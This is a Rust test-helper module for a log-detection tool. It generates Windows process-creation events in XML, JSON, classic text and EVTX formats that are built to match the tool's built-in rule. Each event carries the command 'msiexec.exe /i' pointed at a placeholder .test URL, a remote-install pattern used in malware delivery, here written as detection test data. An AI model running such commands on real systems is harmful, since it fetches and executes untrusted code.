//! Small logs with known hits of the built-in rule.

use std::io::{Cursor, Write};

use coldsweep::corpus::evtx_writer::{Datum, EventSpec, EvtxWriter, Value};
use jiff::Timestamp;

/// An XML event that the built-in rule matches: `host`, and a URL that names `mark`.
pub fn xml(host: &str, second: usize, mark: &str) -> String {
    let command = format!("msiexec.exe /i https://{mark}.test/x.msi");
    xml_event(host, second, &command)
}

/// An XML event of a process with a command line.
pub fn xml_event(host: &str, second: usize, command: &str) -> String {
    let command = command.replace('&', "&amp;").replace('<', "&lt;");
    format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>\
         <Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>\
         <TimeCreated SystemTime='2024-01-01T00:00:{second:02}.250000000Z'/>\
         <EventRecordID>{second}</EventRecordID><Channel>Security</Channel>\
         <Computer>{host}</Computer></System><EventData>\
         <Data Name='SubjectUserName'>alice</Data><Data Name='CommandLine'>{command}</Data>\
         </EventData></Event>\n"
    )
}

/// A JSON record, on one line, that the built-in rule matches.
pub fn json(host: &str, second: usize, mark: &str) -> String {
    format!(
        "{{\"EventTime\":\"2024-01-01 00:00:{second:02}\",\"Hostname\":\"{host}\",\"EventID\":4688,\
         \"Channel\":\"Security\",\"CommandLine\":\"msiexec.exe /i https://{mark}.test/x.msi\"}}\n"
    )
}

/// Classic text that the built-in rule matches.
pub fn classic(host: &str, second: usize, mark: &str) -> String {
    format!(
        "01/01/2024 12:00:{second:02} AM\nLogName=Security\nEventCode=4688\nType=Information\n\
         ComputerName={host}\nMessage=A new process has been created.\r\n\r\n\
         Process Information:\r\n\tProcess Command Line:\tmsiexec.exe /i https://{mark}.test/x.msi\r\n"
    )
}

/// A binary log of events that all match, one a second; each fills about 2 KiB.
pub fn evtx(host: &str, count: usize) -> Vec<u8> {
    let mut writer = EvtxWriter::new(Cursor::new(Vec::new())).unwrap();
    for at in 0..count {
        let command = format!("msiexec.exe /i https://evtx{at}.test/x.msi {}", "x".repeat(800));
        let data = [Datum { name: Some("CommandLine"), value: Value::Text(&command) }];
        let event = EventSpec {
            record_id: at as u64 + 1,
            time: Timestamp::from_second(1_704_067_200 + at as i64).unwrap(),
            computer: host,
            data: &data,
            ..EventSpec::default()
        };
        writer.write(&event).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// As gzip.
pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// As UTF-16 with a byte order mark.
pub fn utf16(text: &str) -> Vec<u8> {
    [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}
